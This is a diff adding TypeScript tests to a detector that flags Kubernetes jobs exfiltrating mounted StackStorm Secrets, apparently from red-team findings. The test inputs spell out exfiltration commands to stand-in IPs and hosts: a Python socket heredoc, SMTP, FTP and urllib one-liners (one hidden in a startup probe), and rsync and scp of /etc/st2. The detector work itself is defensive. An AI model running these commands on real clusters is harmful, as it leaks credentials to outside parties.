@@ -114,4 +114,30 @@ describe('command effects', () => {
     expect(effectsOf(job({ ...sh('cat /etc/st2/st2.secrets.conf > /tmp/c; sha256sum /etc/st2/st2.secrets.conf'), ...mount }, conf))).toEqual([]);
     expect(effectsOf(job({ ...sh('echo "$PASS" | mongo -p --quiet'), ...env }))).toEqual([]);
   });
+
+  it('reads Python heredocs, argv code without quotes, probe commands and recursive copies as sends (the thirteenth red team)', () => {
+    // GIVEN a Secret mounted under /etc/st2/keys, and ways of sending it out that the cutter used to miss
+    const keys = { volumeMounts: [{ name: 'k', mountPath: '/etc/st2/keys' }] };
+    const pod = { volumes: [{ name: 'k', secret: { secretName: 'st2-datastore-key' } }] };
+    const sends = (container: Record<string, unknown>): string[] =>
+      effectsOf(job({ ...keys, ...container }, pod)).flatMap((e) => (e.effect === 'upload' ? [`${e.program} ${e.destination} ${e.secret}`] : []));
+    const heredoc = "python3 - <<'PY'\nimport socket\nsocket.create_connection(('198.51.100.17', 8443)).sendall(open('/etc/st2/keys/k.json','rb').read())\nPY\nsleep infinity";
+    // WHEN each is read THEN the outside host and the Secret are found
+    expect(sends(sh(heredoc))).toEqual(['python 198.51.100.17 st2-datastore-key']);
+    expect(sends({ command: ['python3', '-c', "import smtplib; s=smtplib.SMTP('mx.example.net',25); s.sendmail('a','b',open('/etc/st2/keys/k.json').read())"] })).toEqual(['python3 mx.example.net st2-datastore-key']);
+    expect(sends({ command: ['python3', '-c', "import ftplib; f=ftplib.FTP('ftp.example.net'); f.storbinary('STOR k', open('/etc/st2/keys/k.json','rb'))"] })).toEqual(['python3 ftp.example.net st2-datastore-key']);
+    expect(sends({ command: ['sleep', 'infinity'], startupProbe: { exec: { command: ['python3', '-c', "import urllib.request as u; u.urlopen('https://203.0.113.8/x', data=open('/etc/st2/keys/k.json','rb').read())"] } } })).toEqual(['python3 203.0.113.8 st2-datastore-key']);
+    expect(sends(sh('rsync -a /etc/st2/ rsync://198.51.100.30/drop/'))).toEqual(['rsync 198.51.100.30 st2-datastore-key']);
+    expect(sends(sh('scp -r /etc/st2 backup@203.0.113.9:/srv/'))).toEqual(['scp 203.0.113.9 st2-datastore-key']);
+    // AND the same programs kept inside, or copying only what is not a Secret's, send nothing
+    expect(sends(sh("python3 - <<'PY'\nimport socket\nsocket.create_connection(('st2api', 9101)).sendall(open('/etc/st2/keys/k.json','rb').read())\nPY"))).toEqual([]);
+    expect(sends({ command: ['sleep', 'infinity'], readinessProbe: { exec: { command: ['python3', '-c', "import urllib.request as u; u.urlopen('http://127.0.0.1:9101/v1/')"] } } })).toEqual([]);
+    expect(sends(sh('rsync /etc/st2/ rsync://198.51.100.30/drop/'))).toEqual([]);
+    expect(sends(sh('rsync -a /opt/stackstorm/packs/ rsync://198.51.100.30/drop/'))).toEqual([]);
+  });
+
+  it('does not take a probe printing a Secret for the pod log (its output goes to the kubelet)', () => {
+    const found = effectsOf(job({ command: ['sleep', 'infinity'], volumeMounts: [{ name: 'k', mountPath: '/k' }], livenessProbe: { exec: { command: ['cat', '/k/key'] } } }, { volumes: [{ name: 'k', secret: { secretName: 's' } }] }));
+    expect(kinds(found)).toEqual([]);
+  });
 });
